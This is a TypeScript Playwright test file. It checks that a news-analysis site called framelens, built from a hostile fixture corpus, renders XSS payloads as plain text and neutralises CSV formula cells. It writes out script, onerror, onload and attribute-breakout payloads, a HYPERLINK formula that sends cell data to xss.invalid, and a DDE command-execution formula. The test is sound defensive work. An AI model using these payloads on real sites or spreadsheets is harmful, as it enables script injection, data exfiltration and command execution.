/**
 * No code from content: the seeds plus the broken and hostile files of
 * tests/fixtures/hostile/ (XSS payloads in front matter, JSONL and CSV fields
 * and in article text; stray HTML; formula cells) are built into a report,
 * and headless Chromium visits every page, the embed iframe page for each
 * chart and each embed module. A payload that ran would set `window.__xss`,
 * open a dialog (alert) or request a host other than the local server
 * (`xss.invalid`); none may happen, no console error either, and the
 * payloads must be readable as text.
 *
 * The build is isolated from the main one (which the global setup makes in
 * dist/): config, src/ and data-loaders/ are copied into a temporary root with
 * node_modules linked, so Framework's loader cache (src/.observablehq/cache),
 * the analysis cache and dist/ are this test's own. One build (~1–2 min).
 */
import { spawnSync } from "node:child_process";
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ROOT, TEST_OUTPUT } from "../global-setup.ts";
import { useBuiltSite, watchPage, type PageLog } from "./browser.ts";

const WORK = mkdtempSync(join(tmpdir(), "framelens-hostile-"));
const SITE = join(WORK, "site");
const CORPUS = join(WORK, "corpus");
// FRAMELENS_HOSTILE_DIST: check a site already built from the hostile corpus (e.g. one with a hole put in on purpose) instead of building
const PREBUILT = process.env.FRAMELENS_HOSTILE_DIST;
const DIST = PREBUILT ?? join(SITE, "dist");
const HOSTILE = join(ROOT, "tests/fixtures/hostile");
const SHOTS = join(TEST_OUTPUT, "screenshots", "hostile");
const BUILD_LOG = join(TEST_OUTPUT, "hostile-build.json");

const build: { status: number | null; seconds: number; stderr: string } = { status: null, seconds: 0, stderr: "" };

function isolatedBuild(): void {
  if (PREBUILT) return void Object.assign(build, { status: 0 });
  mkdirSync(CORPUS, { recursive: true });
  for (const dir of [join(ROOT, "corpus"), HOSTILE]) cpSync(dir, CORPUS, { recursive: true });
  mkdirSync(SITE, { recursive: true });
  for (const f of ["observablehq.config.ts", "package.json", "tsconfig.json"]) cpSync(join(ROOT, f), join(SITE, f));
  // a copy, not a link: Framework keeps loader outputs under src/.observablehq/cache, which must be this build's own
  cpSync(join(ROOT, "src"), join(SITE, "src"), { recursive: true, filter: (p) => !relative(join(ROOT, "src"), p).startsWith(".observablehq") });
  cpSync(join(ROOT, "data-loaders"), join(SITE, "data-loaders"), { recursive: true });
  symlinkSync(join(ROOT, "node_modules"), join(SITE, "node_modules"), "dir");
  const t0 = Date.now();
  const r = spawnSync(process.execPath, [join(ROOT, "node_modules/@observablehq/framework/dist/bin/observable.js"), "build"], {
    cwd: SITE,
    encoding: "utf8",
    env: { ...process.env, FRAMELENS_CORPUS: CORPUS, FRAMELENS_CACHE: join(WORK, "cache") },
    maxBuffer: 64 * 1024 * 1024,
  });
  Object.assign(build, { status: r.status, seconds: (Date.now() - t0) / 1000, stderr: r.stderr });
  mkdirSync(SHOTS, { recursive: true });
  writeFileSync(BUILD_LOG, JSON.stringify({ ...build, stdout: r.stdout }, null, 2));
}

beforeAll(isolatedBuild, 600_000);
afterAll(() => rmSync(WORK, { recursive: true, force: true }));
const site = useBuiltSite(DIST);

function pages(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir).flatMap((f) => {
    const p = join(dir, f);
    if (statSync(p).isDirectory()) return f.startsWith("_") ? [] : pages(p);
    return f.endsWith(".html") ? ["/" + relative(DIST, p).replace(/\.html$/, "").replace(/(^|\/)index$/, "")] : [];
  });
}

interface Visit {
  log: PageLog;
  dialogs: string[];
  page: Page;
}

/** Open a page with every alarm armed: dialogs, console errors, failed and foreign requests. */
async function visit(path: string, width = 1280): Promise<Visit> {
  const page = await site.browser.newPage({ viewport: { width, height: 900 } });
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss().catch(() => {});
  });
  const log = watchPage(page, [site.origin]);
  await page.goto(site.origin + path, { waitUntil: "networkidle" });
  return { log, dialogs, page };
}

/** Nothing ran: no marker, no dialog, no foreign or failed request, no console error, no live handler or script URL in the page. */
async function expectInert({ log, dialogs, page }: Visit): Promise<void> {
  // hover and focus everything a breakout could have attached a handler to
  await page.mouse.move(200, 200);
  await page.keyboard.press("Tab");
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(log.foreign).toEqual([]);
  expect(log.failed).toEqual([]);
  expect(log.errors).toEqual([]);
  const live = await page.evaluate(() => {
    const out: string[] = [];
    for (const el of document.querySelectorAll("*")) {
      for (const a of el.getAttributeNames()) {
        const v = el.getAttribute(a) ?? "";
        if (/^on/i.test(a) && /__xss|alert/.test(v)) out.push(`${el.tagName} ${a}=${v}`);
        if (/^(href|src|xlink:href|action|formaction)$/i.test(a) && /^\s*javascript:/i.test(v)) out.push(`${el.tagName} ${a}=${v}`);
      }
      if (el.tagName === "SCRIPT" && /__xss|alert\(/.test(el.textContent ?? "")) out.push(`SCRIPT ${el.textContent}`);
    }
    return out;
  });
  expect(live).toEqual([]);
}

describe("hostile corpus: the build", () => {
  it("succeeds with the broken and hostile files present", () => {
    expect(build.status, build.stderr.slice(-2000)).toBe(0);
  });

  it("builds a page for a hostile article and the health page", () => {
    const all = pages(DIST);
    expect(all).toContain("/articles/xss-frontmatter");
    expect(all).toContain("/health");
  });
});

describe("hostile corpus: no payload runs", () => {
  it("every built page renders with nothing executed", async () => {
    const all = pages(DIST);
    expect(all.length).toBeGreaterThan(10);
    for (const path of all) {
      const v = await visit(path);
      await v.page.waitForSelector("#observablehq-main svg, #observablehq-main table, #observablehq-main p", { timeout: 15_000 });
      await v.page.screenshot({ path: join(SHOTS, `${path.replace(/^\/$/, "/index").slice(1).replace(/\//g, "_")}.png`), fullPage: true });
      try {
        await expectInert(v);
        expect(await v.page.locator(".observablehq--error").count()).toBe(0);
      } catch (e) {
        throw new Error(`${path}: ${(e as Error).message}`);
      } finally {
        await v.page.close();
      }
    }
  }, 600_000);

  it("the hostile article's page shows its title, author and outlet as text", async () => {
    const v = await visit("/articles/xss-frontmatter");
    await v.page.waitForSelector("#observablehq-main h1");
    const main = await v.page.locator("#observablehq-main").innerText();
    expect(main).toContain("<script>window.__xss=1</script>Gipfel in Alaska");
    expect(main).toContain("<img src=http://xss.invalid/author.png onerror=alert('author')>Erika Muster");
    expect(main).toContain(`"><svg onload=alert('outlet')><b>Hostile Zeitung</b>`);
    // an entity-escaped tag in the text is the author's literal text: shown, not run
    expect(main).toContain("<img src=x onerror=alert('text')>");
    // the javascript: url never became a link
    expect(await v.page.locator('a[href^="javascript:"]').count()).toBe(0);
    await expectInert(v);
    await v.page.close();
  }, 180_000);

  it("the attribute-breakout article's title stays one text", async () => {
    const v = await visit("/articles/attribute-breakout");
    await v.page.waitForSelector("#observablehq-main h1");
    expect(await v.page.locator("#observablehq-main h1").innerText()).toContain(`' onmouseover='window.__xss=1' x='`);
    await expectInert(v);
    await v.page.close();
  }, 180_000);

  it("the health page lists each bad file with its reason, payloads as text", async () => {
    const v = await visit("/health");
    await v.page.waitForSelector("#health-table table");
    await v.page.fill('#observablehq-main input[type="search"]', "");
    const text = await v.page.locator("#observablehq-main").innerText();
    for (const needle of ["binary-disguised.txt", "empty.txt", "only-whitespace.txt", "photo.jpg", "rows.jsonl:2", "formula.csv:4", "windows-1252.txt", "stray-html.txt", "unbalanced-quotes.txt", "zz-copy-of-seed-000.txt", "french.txt", "headings-only.md", "bad-front-matter.md", "only-front-matter.md"]) {
      await v.page.fill('#observablehq-main input[type="search"]', needle);
      await expect.poll(() => v.page.locator("#health-table tbody tr").count()).toBeGreaterThan(0);
    }
    expect(text).toContain("skipped");
    await v.page.fill('#observablehq-main input[type="search"]', "markup-in-metadata");
    await expect.poll(() => v.page.locator("#health-table").innerText()).toContain("<script>window.__xss=1</script>");
    await expectInert(v);
    await v.page.close();
  }, 180_000);

  it("the overview and the article list show hostile titles as text", async () => {
    const v = await visit("/");
    await v.page.waitForSelector("#observablehq-main table");
    // the Articles section of the sidebar is collapsed: its text is there, not rendered
    expect(await v.page.locator("#observablehq-sidebar").textContent()).toContain("<script>window.__xss=1</script>Gipfel in Alaska");
    await expectInert(v);
    await v.page.close();
  }, 180_000);
});

describe("hostile corpus: embeds", () => {
  const CHARTS = ["sentences", "actors", "quotes-by-speaker", "frames", "voice", "tone-strip", "facts"];

  it("the iframe page of every chart runs no payload", async () => {
    for (const chart of CHARTS) {
      for (const articles of ["", "xss-frontmatter,row-xss,csv-formula"]) {
        const v = await visit(`/embed/frame?chart=${chart}${articles ? `&articles=${articles}` : ""}`, 640);
        await v.page.waitForSelector(".framelens-embed");
        try {
          await expectInert(v);
        } catch (e) {
          throw new Error(`${chart} ${articles}: ${(e as Error).message}`);
        } finally {
          await v.page.close();
        }
      }
    }
  }, 300_000);

  it("every embed module, imported into a page, runs no payload", async () => {
    const modules = readdirSync(join(DIST, "embed")).filter((f) => f.endsWith(".js"));
    expect(modules.length).toBeGreaterThanOrEqual(7);
    const v = await visit("/health");
    await v.page.waitForSelector("#health-table table");
    for (const m of modules) {
      // a string, so that the test runner does not rewrite the dynamic import
      const ok = await v.page.evaluate(`(async () => {
        const mod = await import(${JSON.stringify(`/embed/${m}`)});
        const el = await mod.embed({ width: 600 });
        document.body.append(el);
        return el.classList.contains("framelens-embed");
      })()`);
      expect(ok, m).toBe(true);
    }
    await expectInert(v);
    await v.page.close();
  }, 120_000);
});

describe("hostile corpus: embed snippets", () => {
  it("a snippet for an article whose id holds </script> cannot break out of its script element", async () => {
    const v = await visit("/embed");
    await v.page.waitForSelector('code[data-snippet="module"]');
    // the checkbox shows the outlet ("Zeile", as for another row): choose both
    const boxes = await v.page.getByRole("checkbox", { name: "Zeile", exact: true }).all();
    expect(boxes.length).toBe(2);
    for (const box of boxes) await box.check();
    const snippet = v.page.locator('code[data-snippet="module"][data-chart="sentences"]');
    await expect.poll(() => snippet.innerText()).toContain("\\u003cscript>window.__xss=1\\u003c/script>");
    const text = await snippet.innerText();
    // pasted into a page, the snippet is exactly one script element, and it runs no payload
    expect(text.match(/<\/script>/g)?.length).toBe(1);
    const iframe = await v.page.locator('code[data-snippet="iframe"][data-chart="sentences"]').innerText();
    expect(iframe).not.toContain("<script>window");
    await expectInert(v);
    await v.page.close();
  }, 180_000);
});

describe("hostile corpus: downloads", () => {
  it("the page's CSV download neutralises formula cells and keeps numbers", async () => {
    const v = await visit("/health");
    await v.page.waitForSelector(".fl-download");
    // the download module as built and shipped with the page
    const rows = [{ title: '=HYPERLINK("http://xss.invalid/?"&A1,"klick")', outlet: "+cmd|' /C calc'!A0", author: "@SUM(1+1)", tab: "\tx", n: -3, s: "-3.5", t: "-2+3", ok: "Text" }];
    const csv: string = await v.page.evaluate(`(async () => {
      const url = performance.getEntriesByType("resource").map((e) => e.name).find((n) => n.includes("download-button"));
      if (!url) return "download-button module not loaded";
      const m = await import(url);
      return m.safeCsv(${JSON.stringify(rows)});
    })()`);
    const [, row] = csv.split("\n");
    expect(row).toBe(`"'=HYPERLINK(""http://xss.invalid/?""&A1,""klick"")",'+cmd|' /C calc'!A0,'@SUM(1+1),'\tx,-3,-3.5,'-2+3,Text`);
    const [download] = await Promise.all([v.page.waitForEvent("download"), v.page.locator(".fl-download", { hasText: "csv" }).first().click()]);
    const body = readFileSync((await download.path())!, "utf8");
    expect(body.split("\n")[0]).toBe("file,articleId,status,reason,detail");
    expect(body).toContain("formula-in-metadata");
    await expectInert(v);
    await v.page.close();
  }, 180_000);
});
